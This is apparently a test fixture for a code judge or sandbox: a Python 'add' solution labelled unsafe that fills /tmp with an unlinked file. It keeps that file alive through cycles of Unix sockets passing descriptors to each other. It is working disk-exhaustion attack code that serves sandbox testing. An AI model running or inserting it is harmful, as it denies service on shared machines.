# problem: add
# verdict: wrong_answer | runtime_error
# why: A deleted file that fills the scratch folder, held by sockets that are sent over each other.
# unsafe: true
import array
import os
import socket


def send(sock, *fds):
    sock.sendmsg([b"."], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", fds))])


def add(a, b):
    held = os.open("/tmp/full", os.O_RDWR | os.O_CREAT)
    os.unlink("/tmp/full")
    try:
        while os.write(held, b"x" * 65536):
            pass
    except OSError:
        pass
    try:
        for _ in range(80):
            one, two = socket.socketpair()
            send(one, two.fileno(), held)
            send(two, one.fileno())
            os.close(held)
            held = one.detach()
            two.close()
    except OSError:
        pass
    return None
